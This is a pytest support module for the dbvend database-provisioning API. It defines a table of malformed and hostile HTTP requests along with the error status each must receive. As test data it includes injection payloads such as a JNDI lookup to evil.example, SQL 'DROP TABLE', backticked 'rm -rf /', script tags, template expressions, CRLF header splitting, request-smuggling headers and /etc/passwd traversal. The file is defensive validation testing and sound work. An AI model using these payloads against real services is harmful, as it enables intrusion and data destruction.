"""Malformed and hostile HTTP requests to dbvend's API: the table of cases, each with the answer it must
get, and a socket writer for the bytes httpx would normalise. tests/integration/test_api_hostile.py
sends them to the API, tests/integration/test_portal_hostile.py turns them into what a browser sends."""

from __future__ import annotations

import base64
import json
import socket
from dataclasses import dataclass
from typing import Any

import pytest

from tests.support.server import API_KEY

PROVISION = "/provision-rds"
DATABASES = "/v1/databases"
VALID: dict[str, Any] = {"database_name": "orders", "database_engine": "postgres", "environment": "dev"}
AURORA: dict[str, Any] = {**VALID, "database_engine": "aurora-postgresql"}
JSON_HEADERS: dict[str, str] = {"x-api-key": API_KEY, "content-type": "application/json"}
# What uvicorn answers, as text/plain, to bytes its HTTP parser refuses (the app never sees them).
PARSER_REFUSAL = b"Invalid HTTP request received."
# Characters an answer must never carry raw: they would hide or reorder what a reader sees.
INVISIBLE = ("\u202e", "\u200b", "\u200d", "\x00")


@dataclass(frozen=True)
class Case:
    """One request and what it must get: the status, and for 400/422 the field the errors name."""

    status: int
    field: str | None = None
    method: str = "POST"
    path: str = PROVISION
    body: bytes | None = None
    headers: tuple[tuple[str, str], ...] = ()
    raw: bytes | None = None  # the whole request, written to a socket as is
    parser: bool = False  # refused by uvicorn's HTTP parser before the app runs


@dataclass(frozen=True)
class Answer:
    status: int
    headers: dict[str, str]
    body: bytes


def _headers(overrides: dict[str, str | None] | None, base: dict[str, str]) -> tuple[tuple[str, str], ...]:
    """`base` with `overrides` applied; a None value drops the header."""
    merged: dict[str, str | None] = {**base, **(overrides or {})}
    return tuple((name, value) for name, value in merged.items() if value is not None)


def post_json(
    case_id: str,
    body: Any,
    status: int,
    field: str | None = None,
    *,
    path: str = PROVISION,
    headers: dict[str, str | None] | None = None,
) -> Any:
    content = json.dumps(body, ensure_ascii=False).encode("utf-8")
    case = Case(status, field, "POST", path, content, _headers(headers, JSON_HEADERS))
    return pytest.param(case, id=case_id)


def post_text(
    case_id: str,
    text: str | bytes,
    status: int,
    field: str | None = None,
    *,
    path: str = PROVISION,
    headers: dict[str, str | None] | None = None,
) -> Any:
    content = text.encode("utf-8") if isinstance(text, str) else text
    case = Case(status, field, "POST", path, content, _headers(headers, JSON_HEADERS))
    return pytest.param(case, id=case_id)


def call(
    case_id: str,
    method: str,
    path: str,
    status: int,
    field: str | None = None,
    *,
    headers: dict[str, str | None] | None = None,
) -> Any:
    case = Case(status, field, method, path, None, _headers(headers, {"x-api-key": API_KEY}))
    return pytest.param(case, id=case_id)


def raw(case_id: str, request: bytes, status: int, field: str | None = None, *, parser: bool = False) -> Any:
    return pytest.param(Case(status, field, raw=request, parser=parser), id=case_id)


def raw_request(
    method: str,
    path: str,
    headers: list[tuple[bytes, bytes]],
    body: bytes = b"",
    *,
    content_length: bytes | None = None,
    key: bytes | None = API_KEY.encode(),
) -> bytes:
    """An HTTP/1.1 request as bytes: Connection: close, the key unless None, Content-Length as given
    (its true value when omitted and there is a body, unless Transfer-Encoding is among the headers)."""
    lines = [f"{method} {path} HTTP/1.1".encode(), b"Host: 127.0.0.1", b"Connection: close"]
    if key is not None:
        lines.append(b"x-api-key: " + key)
    lines += [name + b": " + value for name, value in headers]
    chunked = any(name.lower() == b"transfer-encoding" for name, _ in headers)
    if content_length is None and body and not chunked:
        content_length = str(len(body)).encode()
    if content_length is not None:
        lines.append(b"Content-Length: " + content_length)
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def chunked(body: bytes, size: int = 0x4000) -> bytes:
    pieces = [body[i : i + size] for i in range(0, len(body), size)]
    return b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces) + b"0\r\n\r\n"


JSON_CT = [(b"Content-Type", b"application/json")]
VALID_BYTES = json.dumps(VALID).encode()

# ---- the table ------------------------------------------------------------------------------------

BAD_JSON = [
    post_text("json-empty-body", b"", 400, "body"),
    post_text("json-whitespace-only", " \n\t ", 400, "body"),
    post_text("json-truncated-object", '{"database_name": "orders"', 400, "body"),
    post_text("json-trailing-comma", '{"database_name": "orders",}', 400, "body"),
    post_text("json-single-quotes", "{'database_name': 'orders'}", 400, "body"),
    post_text("json-unquoted-keys", '{database_name: "orders"}', 400, "body"),
    post_text("json-comment", '{"database_name": "orders" /* hi */}', 400, "body"),
    post_text("json-trailing-garbage", "{} {}", 400, "body"),
    post_text("json-nan", '{"database_name": "orders", "storage_gb": NaN}', 400, "body"),
    post_text("json-infinity", '{"database_name": "orders", "storage_gb": Infinity}', 400, "body"),
    post_text("json-minus-infinity", '{"min_acu": -Infinity}', 400, "body"),
    post_text(
        "json-duplicate-keys",
        '{"database_name": "orders", "database_name": "postgres", "database_engine": "postgres",'
        ' "environment": "dev"}',
        400,
        "body",
    ),
    post_text("json-duplicate-keys-nested", '{"reason": {"a": 1, "a": 2}}', 400, "body"),
    post_text("json-utf8-bom", b"\xef\xbb\xbf" + VALID_BYTES, 400, "body"),
    post_text(
        "json-utf16-body",
        VALID_BYTES.decode().encode("utf-16"),
        400,
        "body",
        headers={"content-type": "application/json; charset=utf-16"},
    ),
    post_text("json-deeply-nested-array", "[" * 20_000 + "]" * 20_000, 400, "body"),
    post_text("json-deeply-nested-in-field", '{"reason": ' + "[" * 5000 + "]" * 5000 + "}", 400, "body"),
    post_text("json-raw-newline-in-string", '{"database_name": "ord\ners"}', 400, "body"),
    post_text("json-raw-nul-in-string", '{"database_name": "ord\x00ers"}', 400, "body"),
    post_text("json-bad-unicode-escape", '{"database_name": "\\uZZZZ"}', 400, "body"),
    post_text("json-hex-number", '{"storage_gb": 0x14}', 400, "body"),
    post_text("json-leading-zero", '{"storage_gb": 020}', 400, "body"),
    post_text("json-plus-sign", '{"storage_gb": +20}', 400, "body"),
    raw(
        "json-invalid-utf8-raw",
        raw_request("POST", PROVISION, JSON_CT, b'{"database_name": "\xff\xfe"}'),
        400,
        "body",
    ),
    raw(
        "json-overlong-utf8-slash-raw",
        raw_request("POST", PROVISION, JSON_CT, b'{"identifier": "\xc0\xaf"}'),
        400,
        "body",
    ),
    raw(
        "json-cesu-surrogate-raw",
        raw_request("POST", PROVISION, JSON_CT, b'{"database_name": "\xed\xa0\x80"}'),
        400,
        "body",
    ),
    raw(
        "json-latin1-bytes-raw", raw_request("POST", PROVISION, JSON_CT, b'{"owner": "Jos\xe9"}'), 400, "body"
    ),
]

NOT_AN_OBJECT = [
    post_json("top-level-array", [], 422, "body"),
    post_json("top-level-array-of-request", [VALID], 422, "body"),
    post_json("top-level-string", "orders", 422, "body"),
    post_json("top-level-number", 42, 422, "body"),
    post_json("top-level-null", None, 422, "body"),
    post_json("top-level-true", True, 422, "body"),
]

# Huge numbers written out as digits on the wire. They are valid JSON (RFC 8259 sets no size), so the
# answer is the field's range error, 422, like any other out-of-range number, not "not valid JSON".
DIGITS_5000 = "1" + "0" * 5000
DIGITS_4000 = "1" + "0" * 4000


def with_number(base: dict[str, Any], name: str, digits: str) -> str:
    return json.dumps(base)[:-1] + f', "{name}": {digits}}}'


WRONG_TYPES = [
    post_json("name-number", {**VALID, "database_name": 123}, 422, "database_name"),
    post_json("name-nosql-operator-object", {**VALID, "database_name": {"$ne": None}}, 422, "database_name"),
    post_json("name-array", {**VALID, "database_name": ["orders"]}, 422, "database_name"),
    post_json("name-bool", {**VALID, "database_name": True}, 422, "database_name"),
    post_json("name-null", {**VALID, "database_name": None}, 422, "database_name"),
    post_json("engine-array", {**VALID, "database_engine": ["postgres"]}, 422, "database_engine"),
    post_json("environment-number", {**VALID, "environment": 1}, 422, "environment"),
    post_json("owner-object", {**VALID, "owner": {"login": "alice"}}, 422, "owner"),
    post_json("ttl-number", {**VALID, "ttl": 7}, 422, "ttl"),
    post_json("storage-string", {**VALID, "storage_gb": "20"}, 422, "storage_gb"),
    post_json("storage-fractional-float", {**VALID, "storage_gb": 20.5}, 422, "storage_gb"),
    post_json("storage-bool", {**VALID, "storage_gb": True}, 422, "storage_gb"),
    post_json("storage-object", {**VALID, "storage_gb": {"gb": 20}}, 422, "storage_gb"),
    post_json("storage-negative", {**VALID, "storage_gb": -20}, 422, "storage_gb"),
    post_json("storage-above-int64", {**VALID, "storage_gb": 10**20}, 422, "storage_gb"),
    post_json("storage-above-catalog-max", {**VALID, "storage_gb": 65536}, 422, "storage_gb"),
    post_text("storage-4000-digit-int", with_number(VALID, "storage_gb", DIGITS_4000), 422, "storage_gb"),
    post_text("storage-5000-digit-int", with_number(VALID, "storage_gb", DIGITS_5000), 422, "storage_gb"),
    post_text("readers-5000-digit-int", with_number(AURORA, "readers", DIGITS_5000), 422, "readers"),
    post_text("storage-1e400", with_number(VALID, "storage_gb", "1e400"), 422, "storage_gb"),
    post_text("min-acu-1e400", with_number(AURORA, "min_acu", "1e400"), 422, "min_acu"),
    post_text("max-acu-minus-1e400", with_number(AURORA, "max_acu", "-1e400"), 422, "max_acu"),
    post_json("readers-bool", {**AURORA, "readers": True}, 422, "readers"),
    post_json("readers-string", {**AURORA, "readers": "1"}, 422, "readers"),
    post_json("readers-array", {**AURORA, "readers": [1]}, 422, "readers"),
    post_json("proxy-string", {**AURORA, "proxy": "true"}, 422, "proxy"),
    post_json("proxy-number", {**AURORA, "proxy": 1}, 422, "proxy"),
    post_json("min-acu-string", {**AURORA, "min_acu": "0.5"}, 422, "min_acu"),
    post_json("readers-on-postgres", {**VALID, "readers": 1}, 422, "readers"),
]

INJECTION = [
    post_json("name-dollar-brace", {**VALID, "database_name": "${var.password}"}, 422, "database_name"),
    post_json(
        "name-percent-brace", {**VALID, "database_name": "%{ if true }x%{ endif }"}, 422, "database_name"
    ),
    post_json("name-sql", {**VALID, "database_name": "orders; DROP TABLE users;--"}, 422, "database_name"),
    post_json(
        "name-script-tag", {**VALID, "database_name": "<script>alert(1)</script>"}, 422, "database_name"
    ),
    post_json("identifier-dollar-brace", {**VALID, "identifier": "orders${x}"}, 422, "identifier"),
    post_json("team-jinja", {**VALID, "team": "{{ 7*7 }}"}, 422, "team"),
    post_json("owner-backticks", {**VALID, "owner": "`id`"}, 422, "owner"),
    post_json("version-percent-brace", {**VALID, "engine_version": "%{x}"}, 422, "engine_version"),
    post_json("ttl-dollar-brace", {**VALID, "ttl": "${x}"}, 422, "ttl"),
    post_json("reason-jndi", {**VALID, "reason": "${jndi:ldap://evil.example/a}"}, 422, "reason"),
    post_json("reason-jinja", {**VALID, "reason": "{{ config.items() }}"}, 422, "reason"),
    post_json("reason-backticks", {**VALID, "reason": "`rm -rf /`"}, 422, "reason"),
    post_json("reason-html", {**VALID, "reason": "<img src=x onerror=alert(1)>"}, 422, "reason"),
    post_json("reason-markdown-pipe", {**VALID, "reason": "a | b"}, 422, "reason"),
]

CHARACTERS = [
    post_json("name-double-quote", {**VALID, "database_name": 'ord"ers'}, 422, "database_name"),
    post_json("owner-single-quote", {**VALID, "owner": "o'brien"}, 422, "owner"),
    post_json("reason-double-quote", {**VALID, "reason": 'say "hi"'}, 422, "reason"),
    post_json("team-backslash", {**VALID, "team": "data\\team"}, 422, "team"),
    post_json("name-backslash-traversal", {**VALID, "database_name": "..\\..\\etc"}, 422, "database_name"),
    post_json("reason-newline", {**VALID, "reason": "line one\nline two"}, 422, "reason"),
    post_json("owner-crlf-header", {**VALID, "owner": "alice\r\nX-Injected: 1"}, 422, "owner"),
    post_json("name-nul", {**VALID, "database_name": "ord\x00ers"}, 422, "database_name"),
    post_json("reason-nul", {**VALID, "reason": "a\x00b"}, 422, "reason"),
    post_json("identifier-nul", {**VALID, "identifier": "orders\x00"}, 422, "identifier"),
    post_text(
        "name-lone-surrogate-escape", json.dumps({**VALID, "database_name": "\ud800"}), 422, "database_name"
    ),
]

LOOKALIKES = [
    post_json("name-cyrillic-o", {**VALID, "database_name": "\u043erders"}, 422, "database_name"),
    post_json("engine-cyrillic-o", {**VALID, "database_engine": "p\u043estgres"}, 422, "database_engine"),
    post_json("environment-cyrillic-e", {**VALID, "environment": "d\u0435v"}, 422, "environment"),
    post_json(
        "name-fullwidth",
        {**VALID, "database_name": "\uff4f\uff52\uff44\uff45\uff52\uff53"},
        422,
        "database_name",
    ),
    post_json("environment-fullwidth", {**VALID, "environment": "\uff44\uff45\uff56"}, 422, "environment"),
    post_json("team-fullwidth", {**VALID, "team": "\uff44\uff41\uff54\uff41"}, 422, "team"),
    post_json("name-rtl-override", {**VALID, "database_name": "orders\u202e"}, 422, "database_name"),
    post_json("reason-rtl-override", {**VALID, "reason": "invoice \u202efdp.exe"}, 422, "reason"),
    post_json("identifier-zero-width-space", {**VALID, "identifier": "ord\u200bers"}, 422, "identifier"),
    post_json("owner-zero-width-joiner", {**VALID, "owner": "alice\u200d"}, 422, "owner"),
    post_json("reason-zero-width-space", {**VALID, "reason": "pay\u200bment"}, 422, "reason"),
    post_json("name-dotless-i-reserved", {**VALID, "database_name": "adm\u0131n"}, 422, "database_name"),
]

LENGTHS_AND_RESERVED = [
    post_json("name-64-characters", {**VALID, "database_name": "a" * 64}, 422, "database_name"),
    post_json("name-10000-characters", {**VALID, "database_name": "a" * 10_000}, 422, "database_name"),
    post_json("identifier-64-characters", {**VALID, "identifier": "a" * 64}, 422, "identifier"),
    post_json("aurora-derived-identifier-too-long", {**AURORA, "database_name": "a" * 60}, 422, "identifier"),
    post_json("reason-501-characters", {**VALID, "reason": "r" * 501}, 422, "reason"),
    post_json("team-65-characters", {**VALID, "team": "t" * 65}, 422, "team"),
    post_json("owner-101-characters", {**VALID, "owner": "o" * 101}, 422, "owner"),
    post_json("version-41-characters", {**VALID, "engine_version": "1" * 41}, 422, "engine_version"),
    post_json("reserved-postgres", {**VALID, "database_name": "postgres"}, 422, "database_name"),
    post_json("reserved-postgres-upper", {**VALID, "database_name": "POSTGRES"}, 422, "database_name"),
    post_json(
        "reserved-mysql",
        {**VALID, "database_name": "mysql", "database_engine": "mysql"},
        422,
        "database_name",
    ),
    post_json(
        "reserved-information-schema",
        {**VALID, "database_name": "information_schema", "database_engine": "mysql"},
        422,
        "database_name",
    ),
    post_json("reserved-template0", {**VALID, "database_name": "template0"}, 422, "database_name"),
]

UNKNOWN_VALUES = [
    post_json("engine-oracle", {**VALID, "database_engine": "oracle"}, 422, "database_engine"),
    post_json("engine-capitalised", {**VALID, "database_engine": "Postgres"}, 422, "database_engine"),
    post_json("engine-trailing-space", {**VALID, "database_engine": "postgres "}, 422, "database_engine"),
    post_json("engine-empty", {**VALID, "database_engine": ""}, 422, "database_engine"),
    post_json("environment-unknown", {**VALID, "environment": "qa"}, 422, "environment"),
    post_json("environment-capitalised", {**VALID, "environment": "Prod"}, 422, "environment"),
    post_json("environment-traversal", {**VALID, "environment": "../prod"}, 422, "environment"),
    post_json("environment-21-characters", {**VALID, "environment": "e" * 21}, 422, "environment"),
    post_json("size-unknown", {**VALID, "size": "xxl"}, 422, "size"),
    post_json("ttl-unparsable", {**VALID, "ttl": "forever"}, 422, "ttl"),
    post_json("ttl-above-catalog-max", {**VALID, "ttl": "999d"}, 422, "ttl"),
]

LONG_FIELD = "x" * 1000
UNKNOWN_FIELDS = [
    post_json("unknown-field-proto", {**VALID, "__proto__": {"admin": True}}, 422, "__proto__"),
    post_json("unknown-field-constructor", {**VALID, "constructor": {"prototype": {}}}, 422, "constructor"),
    post_json("unknown-field-prototype", {**VALID, "prototype": 1}, 422, "prototype"),
    post_json("unknown-field-password", {**VALID, "password": "hunter2"}, 422, "password"),
    post_json("unknown-field-upper-case", {**VALID, "DATABASE_NAME": "orders"}, 422, "DATABASE_NAME"),
    post_json("unknown-field-empty-name", {**VALID, "": 1}, 422, ""),
    post_json("unknown-field-script-tag", {**VALID, "<script>x</script>": 1}, 422, "<script>x</script>"),
    post_json("unknown-field-1000-characters", {**VALID, LONG_FIELD: 1}, 422, LONG_FIELD[:80]),
    post_json("unknown-field-rtl-override", {**VALID, "a\u202eb": 1}, 422, repr("a\u202eb")),
    post_json("unknown-field-cyrillic", {**VALID, "d\u0430tabase_name": "orders"}, 422, "d\u0430tabase_name"),
]

MISSING = [
    post_json("missing-everything", {}, 422, "database_name"),
    post_json("missing-engine", {"database_name": "orders", "environment": "dev"}, 422, "database_engine"),
    post_json(
        "missing-environment", {"database_name": "orders", "database_engine": "postgres"}, 422, "environment"
    ),
    post_json(
        "missing-name-identifier-only",
        {"identifier": "orders", "database_engine": "postgres", "environment": "dev"},
        422,
        "database_name",
    ),
    post_json("missing-everything-v1", {}, 422, "database_name", path=DATABASES),
]

HUGE = {**VALID, "reason": "r" * 70 * 1024}
SIZES_AND_TYPES = [
    post_json("body-70-kib", HUGE, 413),
    post_json("body-70-kib-v1", HUGE, 413, path=DATABASES),
    post_json("body-70-kib-without-key", HUGE, 413, headers={"x-api-key": None}),
    raw(
        "chunked-body-70-kib-raw",
        raw_request(
            "POST", PROVISION, [*JSON_CT, (b"Transfer-Encoding", b"chunked")], chunked(b" " * 70 * 1024)
        ),
        413,
    ),
    raw(
        "content-length-claims-70-kib-raw",
        raw_request("POST", PROVISION, JSON_CT, b"{}", content_length=b"71680"),
        413,
    ),
    raw(
        "content-length-shorter-than-body-raw",
        raw_request("POST", PROVISION, JSON_CT, VALID_BYTES, content_length=b"5"),
        400,
        "body",
    ),
    raw(
        "content-length-not-a-number-raw",
        raw_request("POST", PROVISION, JSON_CT, b"{}", content_length=b"abc"),
        400,
        parser=True,
    ),
    raw(
        "content-length-negative-raw",
        raw_request("POST", PROVISION, JSON_CT, b"{}", content_length=b"-1"),
        400,
        parser=True,
    ),
    raw(
        "content-length-twice-raw",
        raw_request("POST", PROVISION, [*JSON_CT, (b"Content-Length", b"3")], b"{} ", content_length=b"2"),
        400,
        parser=True,
    ),
    raw(
        "content-length-and-chunked-raw",
        raw_request(
            "POST",
            PROVISION,
            [*JSON_CT, (b"Transfer-Encoding", b"chunked")],
            chunked(b"{}"),
            content_length=b"2",
        ),
        400,
        parser=True,
    ),
    post_json("content-type-text-plain", VALID, 415, headers={"content-type": "text/plain"}),
    post_text(
        "content-type-form-urlencoded",
        "database_name=orders&database_engine=postgres&environment=dev",
        415,
        headers={"content-type": "application/x-www-form-urlencoded"},
    ),
    post_text(
        "content-type-multipart",
        b'--x\r\nContent-Disposition: form-data; name="database_name"\r\n\r\norders\r\n--x--\r\n',
        415,
        headers={"content-type": "multipart/form-data; boundary=x"},
    ),
    post_json("content-type-json-patch", VALID, 415, headers={"content-type": "application/json-patch+json"}),
    post_json("content-type-json-list", VALID, 415, headers={"content-type": "application/json, text/html"}),
    post_json("content-type-empty", VALID, 415, headers={"content-type": ""}),
    raw("content-type-missing-raw", raw_request("POST", PROVISION, [], VALID_BYTES), 415),
]

KEY_CASES = [
    post_json("key-missing", VALID, 401, headers={"x-api-key": None}),
    post_json("key-empty", VALID, 401, headers={"x-api-key": ""}),
    post_json("key-wrong", VALID, 403, headers={"x-api-key": "not-the-key"}),
    post_json("key-wrong-v1", VALID, 403, path=DATABASES, headers={"x-api-key": "not-the-key"}),
    post_json("key-prefix-of-real-key", VALID, 403, headers={"x-api-key": API_KEY[:-1]}),
    post_json("key-upper-case", VALID, 403, headers={"x-api-key": API_KEY.upper()}),
    post_json("key-with-bearer-prefix", VALID, 403, headers={"x-api-key": f"Bearer {API_KEY}"}),
    post_json("key-10-kb", VALID, 403, headers={"x-api-key": "k" * 10_240}),
    post_json(
        "key-in-authorization-header",
        VALID,
        401,
        headers={"x-api-key": None, "authorization": f"Bearer {API_KEY}"},
    ),
    post_json(
        "key-in-query-string",
        VALID,
        401,
        path=f"{PROVISION}?x-api-key={API_KEY}",
        headers={"x-api-key": None},
    ),
    post_text("key-wrong-with-bad-json", "{", 403, headers={"x-api-key": "not-the-key"}),
    call("key-missing-on-listing", "GET", DATABASES, 401, headers={"x-api-key": None}),
    raw(
        "key-unicode-raw",
        raw_request("POST", PROVISION, JSON_CT, VALID_BYTES, key="k\u00e9y\u202e".encode()),
        403,
    ),
    raw(
        "key-wrong-then-right-raw",
        raw_request(
            "POST", PROVISION, [*JSON_CT, (b"x-api-key", API_KEY.encode())], VALID_BYTES, key=b"wrong"
        ),
        403,
    ),
    raw(
        "key-with-nul-raw",
        raw_request("POST", PROVISION, JSON_CT, VALID_BYTES, key=API_KEY.encode() + b"\x00"),
        400,
        parser=True,
    ),
    raw(
        "header-bare-cr-injection-raw",
        raw_request("POST", PROVISION, [*JSON_CT, (b"x-note", b"a\rSet-Cookie: x=1")], VALID_BYTES),
        400,
        parser=True,
    ),
    raw(
        "header-obs-fold-raw",
        raw_request("POST", PROVISION, [*JSON_CT, (b"x-note", b"a\r\n Set-Cookie: x=1")], VALID_BYTES),
        400,
        parser=True,
    ),
    raw(
        "header-name-with-space-raw",
        raw_request("POST", PROVISION, [*JSON_CT, (b"x-api-key ", API_KEY.encode())], VALID_BYTES, key=None),
        400,
        parser=True,
    ),
]

METHODS = [
    call("get-provision-rds", "GET", PROVISION, 405),
    call("put-provision-rds", "PUT", PROVISION, 405),
    call("delete-databases", "DELETE", DATABASES, 405),
    call("patch-database-without-a-body", "PATCH", f"{DATABASES}/dev/orders", 415),
    call("get-merge", "GET", "/v1/changes/1/merge", 405),
]


def patch(case_id: str, text: str, status: int, field: str | None = None, where: str = "dev/orders") -> Any:
    """PATCH /v1/databases/{env}/{name}: an extension's body."""
    case = Case(status, field, "PATCH", f"{DATABASES}/{where}", text.encode(), _headers(None, JSON_HEADERS))
    return pytest.param(case, id=case_id)


EXTENSIONS = [
    patch("extend-empty-object", "{}", 422, "ttl"),
    patch("extend-ttl-number", '{"ttl": 3}', 422, "ttl"),
    patch("extend-ttl-null", '{"ttl": null}', 422, "ttl"),
    patch("extend-ttl-dollar-brace", '{"ttl": "${var.x}"}', 422, "ttl"),
    patch("extend-ttl-none", '{"ttl": "none"}', 422, "ttl"),
    patch("extend-ttl-zero", '{"ttl": "0d"}', 422, "ttl"),
    patch("extend-ttl-huge", '{"ttl": "' + "9" * 5000 + 'd"}', 422, "ttl"),
    patch("extend-unknown-field", '{"ttl": "3d", "instance_class": "db.x1.32xlarge"}', 422, "instance_class"),
    patch("extend-array", '["3d"]', 422, "body"),
    patch("extend-absent-database", '{"ttl": "3d"}', 404),
    patch("extend-environment-dollar-brace", '{"ttl": "3d"}', 422, "environment", where="%24%7Bx%7D/orders"),
    patch("extend-identifier-traversal", '{"ttl": "3d"}', 422, "identifier", where="dev/%2e%2e"),
]

PATHS = [
    call("database-encoded-traversal", "GET", f"{DATABASES}/..%2F..%2Fetc/passwd", 404),
    call("database-encoded-traversal-in-name", "GET", f"{DATABASES}/dev/..%2F..%2Fetc", 404),
    raw("database-literal-traversal-raw", raw_request("GET", f"{DATABASES}/../../etc/passwd", []), 404),
    call("database-encoded-dot-dot", "GET", f"{DATABASES}/dev/%2e%2e", 422, "identifier"),
    call("database-environment-upper-case", "GET", f"{DATABASES}/DEV/orders", 422, "environment"),
    call("database-environment-dollar-brace", "GET", f"{DATABASES}/%24%7Bx%7D/orders", 422, "environment"),
    call("database-identifier-1000-characters", "GET", f"{DATABASES}/dev/{'a' * 1000}", 422, "identifier"),
    call("database-identifier-nul", "GET", f"{DATABASES}/dev/orders%00", 422, "identifier"),
    call("database-absent", "GET", f"{DATABASES}/dev/orders", 404),
    call("request-encoded-traversal", "GET", "/v1/requests/..%2F..%2Fetc%2Fpasswd", 404),
    call("request-encoded-dot-dot", "GET", "/v1/requests/%2e%2e", 422, "request_id"),
    call("request-id-1000-characters", "GET", f"/v1/requests/{'a' * 1000}", 422, "request_id"),
    call("request-id-dollar-brace", "GET", "/v1/requests/%24%7Bjndi%3Aldap%7D", 422, "request_id"),
    call("request-absent", "GET", "/v1/requests/00000000-0000-4000-8000-000000000000", 404),
    raw(
        "request-id-crlf-response-splitting-raw",
        raw_request("GET", "/v1/requests/abc%0d%0aSet-Cookie:%20x=1", []),
        422,
        "request_id",
    ),
    call("merge-change-zero", "POST", "/v1/changes/0/merge", 422, "change_id"),
    call("merge-change-not-a-number", "POST", "/v1/changes/abc/merge", 422, "change_id"),
    call("merge-change-above-int32", "POST", "/v1/changes/99999999999/merge", 422, "change_id"),
    call("merge-change-absent", "POST", "/v1/changes/1/merge", 404),
]

NO_SEPARATOR = base64.urlsafe_b64encode(b"no separator here").decode()
QUERIES = [
    call("limit-zero", "GET", f"{DATABASES}?limit=0", 422, "limit"),
    call("limit-100000", "GET", f"{DATABASES}?limit=100000", 422, "limit"),
    call("limit-not-a-number", "GET", f"{DATABASES}?limit=abc", 422, "limit"),
    call("limit-negative", "GET", f"{DATABASES}?limit=-1", 422, "limit"),
    call("limit-fraction", "GET", f"{DATABASES}?limit=1.5", 422, "limit"),
    call("limit-30-digits", "GET", f"{DATABASES}?limit={10**30}", 422, "limit"),
    call("status-bogus", "GET", f"{DATABASES}?status=bogus", 422, "status"),
    call("status-17-characters", "GET", f"{DATABASES}?status={'s' * 17}", 422, "status"),
    call("cursor-garbage", "GET", f"{DATABASES}?cursor=garbage", 422, "cursor"),
    call("cursor-without-separator", "GET", f"{DATABASES}?cursor={NO_SEPARATOR}", 422, "cursor"),
    call("cursor-non-ascii", "GET", f"{DATABASES}?cursor=%C3%A9%E2%80%AE", 422, "cursor"),
    call("cursor-201-characters", "GET", f"{DATABASES}?cursor={'A' * 201}", 422, "cursor"),
    call(
        "environment-filter-21-characters", "GET", f"{DATABASES}?environment={'e' * 21}", 422, "environment"
    ),
    call("owner-filter-201-characters", "GET", f"{DATABASES}?owner={'o' * 201}", 422, "owner"),
    call("changes-status-bogus", "GET", "/v1/changes?status=bogus", 422, "status"),
]

# A valid body each time: only the Idempotency-Key stands between these and a write.
IDEMPOTENCY = [
    post_json("idempotency-key-empty", VALID, 422, "Idempotency-Key", headers={"idempotency-key": ""}),
    post_json(
        "idempotency-key-201-characters",
        VALID,
        422,
        "Idempotency-Key",
        headers={"idempotency-key": "i" * 201},
    ),
    post_json(
        "idempotency-key-inner-space", VALID, 422, "Idempotency-Key", headers={"idempotency-key": "a b"}
    ),
    post_json(
        "idempotency-key-inner-tab", VALID, 422, "Idempotency-Key", headers={"idempotency-key": "a\tb"}
    ),
    post_json(
        "idempotency-key-v1-201-characters",
        VALID,
        422,
        "Idempotency-Key",
        path=DATABASES,
        headers={"idempotency-key": "i" * 201},
    ),
    raw(
        "idempotency-key-non-ascii-raw",
        raw_request("POST", PROVISION, [*JSON_CT, (b"Idempotency-Key", "cl\u00e9".encode())], VALID_BYTES),
        422,
        "Idempotency-Key",
    ),
    raw(
        "idempotency-key-rtl-override-raw",
        raw_request("POST", DATABASES, [*JSON_CT, (b"Idempotency-Key", "ab\u202ecd".encode())], VALID_BYTES),
        422,
        "Idempotency-Key",
    ),
]

CASES = [
    *BAD_JSON,
    *NOT_AN_OBJECT,
    *WRONG_TYPES,
    *INJECTION,
    *CHARACTERS,
    *LOOKALIKES,
    *LENGTHS_AND_RESERVED,
    *UNKNOWN_VALUES,
    *UNKNOWN_FIELDS,
    *MISSING,
    *SIZES_AND_TYPES,
    *KEY_CASES,
    *METHODS,
    *EXTENSIONS,
    *PATHS,
    *QUERIES,
    *IDEMPOTENCY,
]


def send_raw(port: int, request: bytes, timeout: float = 5.0) -> Answer:
    """Write the bytes, read to the end (the request says Connection: close), parse the first answer."""
    received = b""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(request)
        while chunk := sock.recv(65536):
            received += chunk
    head, separator, rest = received.partition(b"\r\n\r\n")
    assert separator, f"no complete answer: {received[:300]!r}"
    status_line, *header_lines = head.decode("latin-1").split("\r\n")
    version, status, _ = status_line.split(" ", 2)
    assert version == "HTTP/1.1", status_line
    headers: dict[str, str] = {}
    for line in header_lines:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    length = int(headers.get("content-length", len(rest)))
    return Answer(int(status), headers, rest[:length])
